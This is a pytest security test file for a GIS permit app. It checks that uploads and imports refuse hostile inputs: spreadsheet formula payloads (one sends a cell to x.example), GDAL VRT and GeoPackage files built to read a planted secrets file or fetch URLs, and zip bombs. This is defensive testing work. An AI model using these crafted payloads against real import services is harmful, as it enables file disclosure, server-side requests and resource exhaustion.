"""Hostile uploads and imports: formulas in rejects files, files that make GDAL read elsewhere,
zip bombs, limits, quotas and who may confirm.  Every hostile file is made by the test."""

import csv
import html
import http.server
import io
import re
import sqlite3
import threading
import zipfile

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from gisapp.accounts import Accounts
from gisapp.cli import cli
from gisapp.web.app import create_app
from tests.helpers import signed_in, staff_accounts, token_of
from tests.stores import BACKENDS, new_store

# every upload is checked in a child process (a second or more each)
pytestmark = pytest.mark.slow

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1)", "+1+2", "-3+4",
            "\t=1+1", "\r=1+1"]


def make_app(store_url, tmp_path, **config):
    if not (tmp_path / "acc.sqlite").exists():
        staff_accounts(tmp_path / "acc.sqlite", (("officer1", "officer"), ("officer2", "officer"), ("admin1", "admin")))
    return create_app({"STORE": store_url, "ACCOUNTS": str(tmp_path / "acc.sqlite"),
                       "UPLOADS": str(tmp_path / "uploads"), "TESTING": True, "MAX_UPLOAD_MB": 1, **config})


@pytest.fixture
def app(demo_store, tmp_path):
    return make_app(demo_store.url, tmp_path)


def upload(client, content, name="permits.geojson", layer="sidewalk_permits", lang=None, **extra):
    page = client.get("/upload").get_data(as_text=True)
    data = {"layer": layer, "mode": "upsert", "csrf_token": token_of(page), "file": (io.BytesIO(content), name),
            **extra}
    return client.post("/upload" + (f"?lang={lang}" if lang else ""), data=data, content_type="multipart/form-data")


def text_of(response) -> str:
    return html.unescape(response.get_data(as_text=True))


def error_of(response) -> str:
    """The upload page's error message."""
    found = re.search(r'data-testid="upload-error">(.*?)</p>', response.get_data(as_text=True), re.DOTALL)
    assert found, response.get_data(as_text=True)[-1500:]
    return html.unescape(found.group(1))


def sidewalk_rows(demo_store, n=3) -> pd.DataFrame:
    """``n`` sidewalk permits of the demo as new rows (WGS84, dates as text)."""
    rows = demo_store.read("sidewalk_permits", limit=n).copy()
    rows["permit_no"] = [f"UP-{i}" for i in range(1, n + 1)]
    for col in ("start_on", "end_on"):
        rows[col] = rows[col].dt.strftime("%Y-%m-%d")
    return rows.to_crs(4326)


def geojson_bytes(frame, tmp_path, name="rows.geojson") -> bytes:
    path = tmp_path / name
    frame.to_file(path, driver="GeoJSON")
    return path.read_bytes()


# -- 6: rejected rows come back without live formulas ------------------------------------------


@pytest.fixture
def formula_rows(demo_store):
    """Sidewalk permits that all end before they start, keyed and described with formulas."""
    rows = sidewalk_rows(demo_store, len(FORMULAS))
    rows["permit_no"] = FORMULAS
    rows["owner_note"] = FORMULAS[::-1]
    rows["end_on"] = "2000-01-01"
    return rows


def assert_no_live_formula(raw: bytes):
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    cells = [c for row in table for c in row]
    assert any(c.startswith("'=cmd") for c in cells) and any(c.startswith("'@SUM") for c in cells)
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, live


def test_rejects_from_the_upload_page_carry_no_live_formula(app, formula_rows, tmp_path):
    client = signed_in(app, "officer1")
    page = upload(client, geojson_bytes(formula_rows, tmp_path)).get_data(as_text=True)
    assert re.search(rf'data-testid="rejected">{len(FORMULAS)}<', page)
    rejects_url = re.search(r'data-testid="rejects-link" href="([^"]+)"', page).group(1)
    assert_no_live_formula(client.get(rejects_url).data)


def test_rejects_from_the_command_carry_no_live_formula(demo_store, formula_rows, tmp_path):
    path = tmp_path / "formulas.geojson"
    path.write_bytes(geojson_bytes(formula_rows, tmp_path))
    result = CliRunner().invoke(cli, ["--store", str(demo_store.path), "import", "sidewalk_permits", str(path)])
    assert result.exit_code == 1 and "every row was rejected" in result.output
    assert_no_live_formula((tmp_path / "formulas.rejects.csv").read_bytes())


# -- 7: messages in the user's language, without server paths or command-line flags ---------------


def dossier_csv() -> bytes:
    return "Mã hồ sơ,Trạng thái,Ngày tiếp nhận\nHS-1,Mới đăng ký,2022-03-01\n".encode()


@pytest.mark.parametrize("lang, field", [("vi", "Thửa đất (khi nhập bảng hồ sơ)"),
                                         ("en", "Parcels (for a table of dossiers)")])
def test_a_table_without_parcels_names_the_form_field(app, lang, field):
    r = upload(signed_in(app, "officer1"), dossier_csv(), name="ho_so.csv", layer="construction_permits", lang=lang)
    page = error_of(r)
    assert r.status_code == 400 and field in page and "--parcels" not in page
    assert ("là bảng" if lang == "vi" else "is a table") in page


@pytest.mark.parametrize("lang, field", [("vi", "Hệ tọa độ nếu tệp không có"), ("en", "CRS if the file has none")])
def test_a_file_without_crs_names_the_form_field(app, demo_store, tmp_path, lang, field):
    rows = sidewalk_rows(demo_store, 1).to_crs(5899).set_crs(None, allow_override=True)
    rows.to_file(tmp_path / "no_crs.gpkg", layer="sidewalk_permits")
    r = upload(signed_in(app, "officer1"), (tmp_path / "no_crs.gpkg").read_bytes(), name="no_crs.gpkg", lang=lang)
    page = error_of(r)
    assert r.status_code == 400 and field in page and "--crs" not in page


@pytest.mark.parametrize("name, content", [("broken.gpkg", b"garbage"),
                                           ("broken.geojson", b'{"type": "FeatureCollection", "features": [')])
def test_unreadable_files_are_refused_without_server_paths(app, tmp_path, name, content):
    r = upload(signed_in(app, "officer1"), content, name=name, lang="en")
    page = error_of(r)
    assert r.status_code == 400 and name in page and ("cannot read" in page or "not a GeoPackage" in page)
    assert str(tmp_path) not in page and "/files/" not in page and "<DRIVER>" not in page


# -- 1: a file is read only by the driver of its format, and GDAL reaches nothing else -------------

SECRET = "TOPSECRET-7d1f"
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def planted(tmp_path):
    """A CSV file elsewhere on the server, holding a secret that hostile files try to make GDAL read."""
    folder = tmp_path / "planted"
    folder.mkdir()
    (folder / "accounts.csv").write_text(f"permit_no,password_hash\nVH-9,{SECRET}\n")
    (folder / "accounts.txt").write_text(f"permit_no,password_hash\nVH-9,{SECRET}\n")
    return folder


def vrt(source: str, layer: str = "accounts") -> bytes:
    """An OGR VRT file: XML that makes GDAL read ``source`` instead, each row with a polygon (so that the
    rows come back in the rejects file, as in the attack)."""
    return (f'<OGRVRTDataSource><OGRVRTLayer name="sidewalk_permits"><SrcDataSource>{source}</SrcDataSource>'
            f"<SrcSQL>SELECT *, 'POLYGON ((0 0, 1 0, 1 1, 0 0))' AS wkt FROM {layer}</SrcSQL>"
            '<GeometryField encoding="WKT" field="wkt"/><LayerSRS>EPSG:4326</LayerSRS></OGRVRTLayer>'
            '</OGRVRTDataSource>').encode()


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def hostile(kind: str, planted) -> tuple[str, bytes]:
    """A hostile upload of ``kind``: its name and its bytes."""
    csv_path = str(planted / "accounts.csv")
    return {
        "vrt-as-geojson": ("permits.geojson", vrt(csv_path)),
        "vrt-as-json": ("permits.json", vrt(csv_path)),
        "vrt-as-gpkg": ("permits.gpkg", vrt(csv_path)),
        "vrt-as-shp": ("permits.shp", vrt(csv_path)),
        "vrt-after-bom-and-spaces": ("permits.geojson", BOM + b" \r\n\t" + vrt(csv_path)),
        "csv-prefix-trick": ("permits.geojson", vrt(f"CSV:{planted / 'accounts.txt'}")),
        "vrt-in-zip": ("permits.zip", zipped({"permits.geojson": vrt(csv_path)})),
        "vrt-in-zip-as-shp": ("permits.zip", zipped({"permits.shp": vrt(csv_path), "permits.shx": vrt(csv_path),
                                                     "permits.dbf": vrt(csv_path)})),
        "vrt-file-in-zip": ("permits.zip", zipped({"permits.vrt": vrt(csv_path)})),
        "vrt-as-xlsx": ("permits.xlsx", vrt(csv_path)),
        "gpkg-not-sqlite": ("permits.gpkg", b"SQLite format 2\x00" + vrt(csv_path)),
    }[kind]


HOSTILE = ["vrt-as-geojson", "vrt-as-json", "vrt-as-gpkg", "vrt-as-shp", "vrt-after-bom-and-spaces",
           "csv-prefix-trick", "vrt-in-zip", "vrt-in-zip-as-shp", "vrt-file-in-zip", "vrt-as-xlsx", "gpkg-not-sqlite"]
REFUSALS = ("not a GeoJSON", "not a GeoPackage", "not a Shapefile", "not an XLSX", "holds no", "is not read")


def assert_secret_nowhere(*places):
    """The planted secret is in none of these texts or folders (every file under them)."""
    for place in places:
        if isinstance(place, str):
            assert SECRET not in place
        elif place.exists():
            for path in place.rglob("*"):
                assert not path.is_file() or SECRET.encode() not in path.read_bytes(), path


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_uploads_are_refused_and_reveal_nothing(app, planted, tmp_path, kind):
    name, content = hostile(kind, planted)
    r = upload(signed_in(app, "officer1"), content, name=name, lang="en")
    message = error_of(r)
    assert r.status_code == 400 and any(refusal in message for refusal in REFUSALS), message
    assert_secret_nowhere(text_of(r), tmp_path / "uploads")


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_files_are_refused_by_the_command(demo_store, planted, tmp_path, kind):
    name, content = hostile(kind, planted)
    folder = tmp_path / "office"
    folder.mkdir()
    (folder / name).write_bytes(content)
    result = CliRunner().invoke(cli, ["--store", str(demo_store.path), "import", "sidewalk_permits",
                                      str(folder / name)])
    assert result.exit_code == 1 and any(refusal in result.output for refusal in REFUSALS), result.output
    assert_secret_nowhere(result.output, folder)


def test_the_command_reads_any_format_only_when_told(demo_store, planted, tmp_path):
    """``--allow-any-driver``: a shell user lets GDAL read a VRT (here: the planted file) on purpose."""
    path = tmp_path / "permits.vrt"
    path.write_bytes(vrt(str(planted / "accounts.csv")))
    args = ["--store", str(demo_store.path), "import", "sidewalk_permits", str(path)]
    refused = CliRunner().invoke(cli, args)
    assert refused.exit_code == 1 and ".vrt files are not read" in refused.output
    assert "--allow-any-driver" in refused.output
    allowed = CliRunner().invoke(cli, [*args, "--allow-any-driver"])
    assert "read 1, accepted 0" in allowed.output and SECRET in (tmp_path / "permits.rejects.csv").read_text()


@pytest.fixture
def web_server():
    """A local HTTP server that records every request made to it (``requests``)."""
    requests = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'{"type": "FeatureCollection", "features": []}')

        do_HEAD = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", requests
    server.shutdown()
    server.server_close()


def test_a_vrt_cannot_make_the_server_send_requests(app, demo_store, web_server, tmp_path):
    url, requests = web_server
    content = vrt(f"/vsicurl/{url}/accounts.csv")
    r = upload(signed_in(app, "officer1"), content, name="permits.geojson", lang="en")
    assert r.status_code == 400 and "not a GeoJSON" in error_of(r)
    (tmp_path / "permits.json").write_bytes(content)
    result = CliRunner().invoke(cli, ["--store", str(demo_store.path), "import", "sidewalk_permits",
                                      str(tmp_path / "permits.json")])
    assert result.exit_code == 1 and "not a GeoJSON" in result.output
    assert requests == []


def test_gdal_reaches_no_network_while_an_import_reads(web_server):
    """Beyond the content checks: GDAL's own settings while reading keep it off the network."""
    import pyogrio

    from gisapp.importing.read import ImportFailure, gdal_locked_down, read_source

    url, requests = web_server
    with gdal_locked_down():
        for source in (f"/vsicurl/{url}/a.geojson", f"{url}/b.geojson", f"GeoJSON:{url}/c.geojson"):
            with pytest.raises(Exception):  # noqa: B017 (GDAL's error kinds vary by source)
                pyogrio.read_info(source)
    with pytest.raises(ImportFailure, match="no such file"):
        read_source(f"/vsicurl/{url}/d.geojson")
    assert requests == []
    assert pyogrio.get_gdal_config_option("CPL_VSIL_CURL_ALLOWED_FILENAME") is None  # restored after


def hostile_geopackage(path, planted, demo_store):
    """A real GeoPackage (SQLite, GeoPackage application id) whose layers would read the planted file."""
    rows = sidewalk_rows(demo_store, 1)
    rows.to_file(path, layer="ok", driver="GPKG")
    con = sqlite3.connect(path)
    con.execute("PRAGMA writable_schema=ON")
    con.execute("INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', "
                "'sidewalk_permits', 'sidewalk_permits', 0, 'CREATE VIRTUAL TABLE sidewalk_permits USING "
                f"VirtualOGR(''{planted / 'accounts.csv'}'')')")
    con.commit()
    con.close()
    con = sqlite3.connect(path)
    con.execute(f"CREATE VIEW loader AS SELECT ogr_datasource_load_layers('{planted / 'accounts.csv'}') AS x")
    for name in ("sidewalk_permits", "loader"):
        con.execute("INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES (?, 'attributes', ?)",
                    (name, name))
    con.commit()
    assert con.execute("PRAGMA application_id").fetchone()[0] == 0x47504B47
    con.close()
    return path


def test_a_geopackage_that_would_read_other_files_is_refused(app, demo_store, planted, tmp_path, monkeypatch):
    monkeypatch.setenv("OGR_SQLITE_ALLOW_EXTERNAL_ACCESS", "YES")  # a permissive environment changes nothing
    monkeypatch.setenv("ALLOW_OGR_SQL_FUNCTIONS_FROM_TRIGGER_AND_VIEW", "YES")
    (tmp_path / "office").mkdir()
    path = hostile_geopackage(tmp_path / "office" / "permits.gpkg", planted, demo_store)
    r = upload(signed_in(app, "officer1"), path.read_bytes(), name="permits.gpkg", lang="en")
    assert r.status_code == 400 and "could read other files" in error_of(r)
    assert_secret_nowhere(text_of(r), tmp_path / "uploads")
    result = CliRunner().invoke(cli, ["--store", str(demo_store.path), "import", "sidewalk_permits", str(path)])
    assert result.exit_code == 1 and "could read other files" in result.output
    assert_secret_nowhere(result.output, path.parent)


def test_a_geopackage_with_tables_merely_named_like_gdal_functions_is_read(app, demo_store, tmp_path):
    path = tmp_path / "permits.gpkg"
    sidewalk_rows(demo_store).to_file(path, layer="sidewalk_permits", driver="GPKG")
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE gdal_notes(id INTEGER PRIMARY KEY, note TEXT)")
    con.execute("CREATE VIEW ogr_summary(n) AS SELECT count(*) FROM sidewalk_permits")
    con.commit()
    con.close()
    r = upload(signed_in(app, "officer1"), path.read_bytes(), name="permits.gpkg", lang="en")
    assert re.search(r'data-testid="accepted">3<', r.get_data(as_text=True)), error_of(r)


def test_an_incomplete_shapefile_zip_gets_a_clear_message(app, demo_store, tmp_path):
    folder = tmp_path / "shp"
    folder.mkdir()
    sidewalk_rows(demo_store, 2).to_file(folder / "via_he.shp")
    members = {p.name: p.read_bytes() for p in folder.iterdir() if p.suffix != ".shx"}
    for lang, words in (("vi", "thiếu"), ("en", "lacks its .shx")):
        r = upload(signed_in(app, "officer1"), zipped(members), name="via_he.zip", lang=lang)
        assert r.status_code == 400 and words in error_of(r) and str(tmp_path) not in text_of(r)


def test_a_shapefile_zip_with_folders_and_odd_names_is_read(app, demo_store, tmp_path):
    """Members in a folder, upper-case suffixes, macOS litter; names that climb out are read in place."""
    folder = tmp_path / "shp"
    folder.mkdir()
    sidewalk_rows(demo_store, 2).to_file(folder / "via_he.shp")
    members = {f"../../export/Via He{p.suffix.upper()}": p.read_bytes() for p in folder.iterdir()}
    members["__MACOSX/._Via He.shp"] = b"\x00\x05\x16\x07"
    members["export/readme.pdf"] = b"%PDF-1.4"
    r = upload(signed_in(app, "officer1"), zipped(members), name="via_he.zip")
    assert re.search(r'data-testid="accepted">2<', r.get_data(as_text=True)), error_of(r)
    assert not (tmp_path / "export").exists() and not (tmp_path.parent / "export").exists()


@pytest.mark.parametrize("members, message", [
    ({}, "holds no"),
    ({"a.geojson": b"{}", "b.geojson": b"{}"}, "holds several datasets"),
    ({"inner.zip": b"PK\x05\x06" + bytes(18)}, "holds no"),
])
def test_zips_with_no_or_several_datasets_are_refused(app, members, message):
    r = upload(signed_in(app, "officer1"), zipped(members), name="permits.zip", lang="en")
    assert r.status_code == 400 and message in error_of(r)


# -- 2: limits on what an upload unpacks to and holds; the check runs in a child process ------------


def geojson_of_spaces(size: int) -> bytes:
    """A valid, empty FeatureCollection padded with ``size`` spaces: packs into a few KB."""
    return b'{"type": "FeatureCollection", "features": [' + b" " * size + b"]}"


def with_declared_size(zipped_bytes: bytes, size: int) -> bytes:
    """The zip with its (one) member's unpacked size in both headers replaced by ``size``: a lie."""
    data = bytearray(zipped_bytes)
    local = data.index(b"PK\x03\x04")
    central = data.index(b"PK\x01\x02")
    data[local + 22:local + 26] = size.to_bytes(4, "little")
    data[central + 24:central + 28] = size.to_bytes(4, "little")
    return bytes(data)


def test_the_form_names_the_limits(demo_store, tmp_path):
    app = make_app(demo_store.url, tmp_path, MAX_UNPACKED_MB=7, MAX_UPLOAD_FEATURES=12345)
    page = signed_in(app, "officer1").get("/upload?lang=en").get_data(as_text=True)
    assert "At most 7 MB unpacked and 12,345 features or rows per file." in page


def test_a_zip_bomb_is_refused_with_the_limit_named(demo_store, tmp_path):
    app = make_app(demo_store.url, tmp_path, MAX_UNPACKED_MB=1)
    bomb = zipped({"permits.geojson": geojson_of_spaces(3 << 20)})
    assert len(bomb) < 20_000
    for lang, words in (("en", "more than 1 MB"), ("vi", "lớn hơn 1 MB")):
        r = upload(signed_in(app, "officer1"), bomb, name="permits.zip", lang=lang)
        assert r.status_code == 400 and words in error_of(r)
    assert not list((tmp_path / "uploads").glob("*/files/*"))  # a refused upload is not kept


def test_a_zip_whose_headers_lie_about_its_size_is_refused(demo_store, tmp_path):
    app = make_app(demo_store.url, tmp_path, MAX_UNPACKED_MB=1)
    liar = with_declared_size(zipped({"permits.geojson": geojson_of_spaces(3 << 20)}), 1000)
    r = upload(signed_in(app, "officer1"), liar, name="permits.zip", lang="en")
    assert r.status_code == 400 and ("more than 1 MB" in error_of(r) or "not a readable zip" in error_of(r))


def test_an_xlsx_that_unpacks_beyond_the_limit_is_refused(demo_store, tmp_path):
    app = make_app(demo_store.url, tmp_path, MAX_UNPACKED_MB=1)
    book = openpyxl.Workbook()
    book.active.append(["Mã hồ sơ", "Trạng thái"])
    book.active.append(["HS-1", "x" * 30000])
    book.save(tmp_path / "ho_so.xlsx")
    with zipfile.ZipFile(tmp_path / "ho_so.xlsx", "a") as zf:
        zf.writestr("xl/media/padding.bin", bytes(3 << 20), compress_type=zipfile.ZIP_DEFLATED)
    r = upload(signed_in(app, "officer1"), (tmp_path / "ho_so.xlsx").read_bytes(), name="ho_so.xlsx",
               layer="construction_permits", lang="en")
    assert r.status_code == 400 and "more than 1 MB" in error_of(r)


@pytest.mark.parametrize("kind", ["geojson", "gpkg", "zip", "csv", "xlsx"])
def test_a_file_with_more_features_than_the_limit_is_refused(demo_store, tmp_path, kind):
    app = make_app(demo_store.url, tmp_path, MAX_UPLOAD_FEATURES=3)
    rows = sidewalk_rows(demo_store, 5)
    layer, name = "sidewalk_permits", f"permits.{kind}"
    if kind in ("geojson", "zip"):
        content = geojson_bytes(rows, tmp_path)
        content = zipped({"permits.geojson": content}) if kind == "zip" else content
    elif kind == "gpkg":
        rows.to_file(tmp_path / name, layer="sidewalk_permits")
        content = (tmp_path / name).read_bytes()
    else:
        layer, table = "construction_permits", pd.DataFrame({"Mã hồ sơ": [f"HS-{i}" for i in range(5)]})
        if kind == "csv":
            content = table.to_csv(index=False).encode()
        else:
            table.to_excel(tmp_path / name, index=False)
            content = (tmp_path / name).read_bytes()
    r = upload(signed_in(app, "officer1"), content, name=name, layer=layer, lang="en")
    assert r.status_code == 400 and "more than 3 features or rows" in error_of(r)
    r = upload(signed_in(app, "officer1"), content, name=name, layer=layer, lang="vi")
    assert "hơn 3 đối tượng" in error_of(r)


def test_the_check_runs_in_a_child_process_under_the_memory_limit(demo_store, tmp_path):
    """A check that needs more memory than allowed is refused with the limit named; the server goes on."""
    content = geojson_bytes(sidewalk_rows(demo_store), tmp_path)
    starved = make_app(demo_store.url, tmp_path, IMPORT_MEMORY_MB=200)
    r = upload(signed_in(starved, "officer1"), content, lang="en")
    assert r.status_code == 400 and "200 MB" in error_of(r)
    r = upload(signed_in(make_app(demo_store.url, tmp_path), "officer1"), content)
    assert r.status_code == 200 and re.search(r'data-testid="accepted">3<', r.get_data(as_text=True))


def test_an_import_that_meets_the_limit_outside_python_is_refused_with_the_limit(demo_store, tmp_path):
    """The limit met by a thread or a library (numba's compiler, mapped on first use by a write of 2,000 texts or
    more) is the memory limit named, as for Python's own allocations; and nothing of the import is written."""
    from gisapp.importing import child as importing_child
    from gisapp.importing.prepare import ImportFailure

    rows = sidewalk_rows(demo_store, 400)
    rows = pd.concat([rows] * 7, ignore_index=True).iloc[:2500]  # the demo's 400 strips, each several times
    rows["permit_no"] = [f"UP-{i}" for i in range(1, len(rows) + 1)]
    (tmp_path / "permits.geojson").write_bytes(geojson_bytes(rows, tmp_path))
    job = importing_child.Job(store=demo_store.url, layer="sidewalk_permits", path=str(tmp_path / "permits.geojson"),
                              dry_run=False)
    before = demo_store.count("sidewalk_permits")
    refused = 0
    for limit in (1024, 1536, 1700):  # on this machine: Python's allocator, a thread, numba's library refused
        try:
            summary = importing_child.run(job, memory_mb=limit, seconds=120)
        except ImportFailure as err:
            assert f"{limit} MB" in str(err)
            assert demo_store.count("sidewalk_permits") == before
            refused += 1
        else:
            assert summary.accepted == 2500
            before = demo_store.count("sidewalk_permits")
    assert refused  # at least the smallest limit is met


def test_a_check_past_its_time_is_stopped(demo_store, tmp_path):
    from gisapp.importing import child as importing_child
    from gisapp.importing.prepare import ImportFailure

    (tmp_path / "permits.geojson").write_bytes(geojson_bytes(sidewalk_rows(demo_store), tmp_path))
    job = importing_child.Job(store=demo_store.url, layer="sidewalk_permits", path=str(tmp_path / "permits.geojson"))
    with pytest.raises(ImportFailure, match=r"takes more than 0.01 s"):
        importing_child.run(job, memory_mb=4096, seconds=0.01)


@pytest.mark.parametrize("backend", BACKENDS)
def test_check_and_confirm_in_the_child_on_each_store(backend, demo_frames, tmp_path, request):
    """The child process reads the upload, writes its rejects and, on confirmation, the store of either kind."""
    store = new_store(backend, tmp_path, request)
    frames, meta = demo_frames
    store.write(frames, meta=meta)
    app = make_app(store.url, tmp_path)
    client = signed_in(app, "officer1")
    rows = sidewalk_rows(store)
    rows.loc[2, "end_on"] = "2000-01-01"
    page = upload(client, geojson_bytes(rows, tmp_path)).get_data(as_text=True)
    assert re.search(r'data-testid="accepted">2<', page) and re.search(r'data-testid="rejected">1<', page)
    rejects_url = re.search(r'data-testid="rejects-link" href="([^"]+)"', page).group(1)
    assert "UP-3" in client.get(rejects_url).get_data(as_text=True)
    before = store.count("sidewalk_permits")
    confirm = re.search(r'action="([^"]+/confirm)"', page).group(1)
    assert client.post(confirm, data={"csrf_token": token_of(page)}).status_code == 200
    assert store.count("sidewalk_permits") == before + 2


# -- 9: quotas of waiting uploads; only the uploader (or an admin) confirms; both in the audit log -----


def padded(content: bytes, size: int) -> bytes:
    """``content`` (JSON) followed by white space up to ``size`` bytes: still the same GeoJSON."""
    return content + b" " * (size - len(content))


def checked_page(client, content) -> str:
    r = upload(client, content)
    assert r.status_code == 200, error_of(r)
    return r.get_data(as_text=True)


def test_an_officers_waiting_uploads_have_a_quota(demo_store, tmp_path):
    app = make_app(demo_store.url, tmp_path, UPLOAD_QUOTA_MB=1)
    content = padded(geojson_bytes(sidewalk_rows(demo_store), tmp_path), 600_000)
    officer1 = signed_in(app, "officer1")
    page = checked_page(officer1, content)
    r = upload(officer1, content, lang="en")
    assert r.status_code == 400 and "at most 1 MB waiting" in error_of(r)
    assert "tối đa 1 MB" in error_of(upload(officer1, content, lang="vi"))
    checked_page(signed_in(app, "officer2"), content)  # another officer has a quota of their own
    discard = re.search(r'action="([^"]+/discard)"', page).group(1)  # "start again" gives the room back
    assert officer1.post(discard, data={"csrf_token": token_of(page)}).status_code == 302
    checked_page(officer1, content)


def test_all_waiting_uploads_have_a_quota(demo_store, tmp_path):
    app = make_app(demo_store.url, tmp_path, UPLOAD_QUOTA_MB=1, UPLOADS_TOTAL_MB=1)
    content = padded(geojson_bytes(sidewalk_rows(demo_store), tmp_path), 600_000)
    checked_page(signed_in(app, "officer1"), content)
    r = upload(signed_in(app, "officer2"), content, lang="en")
    assert r.status_code == 400 and "at most 1 MB may wait in all" in error_of(r)


def test_only_the_uploader_or_an_admin_confirms_and_the_log_names_both(app, demo_store, tmp_path):
    rows = sidewalk_rows(demo_store)
    rows.loc[2, "end_on"] = "2000-01-01"
    page = checked_page(signed_in(app, "officer1"), geojson_bytes(rows, tmp_path))
    rejects_url = re.search(r'data-testid="rejects-link" href="([^"]+)"', page).group(1)
    confirm = re.search(r'action="([^"]+/confirm)"', page).group(1)
    discard = re.search(r'action="([^"]+/discard)"', page).group(1)
    before = demo_store.count("sidewalk_permits")
    officer2 = signed_in(app, "officer2")
    csrf = token_of(officer2.get("/upload").get_data(as_text=True))
    assert officer2.get(rejects_url).status_code == 403
    assert officer2.post(confirm, data={"csrf_token": csrf}).status_code == 403
    assert officer2.post(discard, data={"csrf_token": csrf}).status_code == 403
    assert demo_store.count("sidewalk_permits") == before
    admin = signed_in(app, "admin1")
    csrf = token_of(admin.get("/upload").get_data(as_text=True))
    assert "UP-3" in admin.get(rejects_url).get_data(as_text=True)
    assert admin.post(confirm, data={"csrf_token": csrf}).status_code == 200
    assert demo_store.count("sidewalk_permits") == before + 2
    entry = Accounts(app.config["ACCOUNTS"]).audit_log()[0]
    assert (entry.username, entry.action, entry.rows) == ("admin1", "import", 2)
    assert "uploaded by officer1" in entry.detail
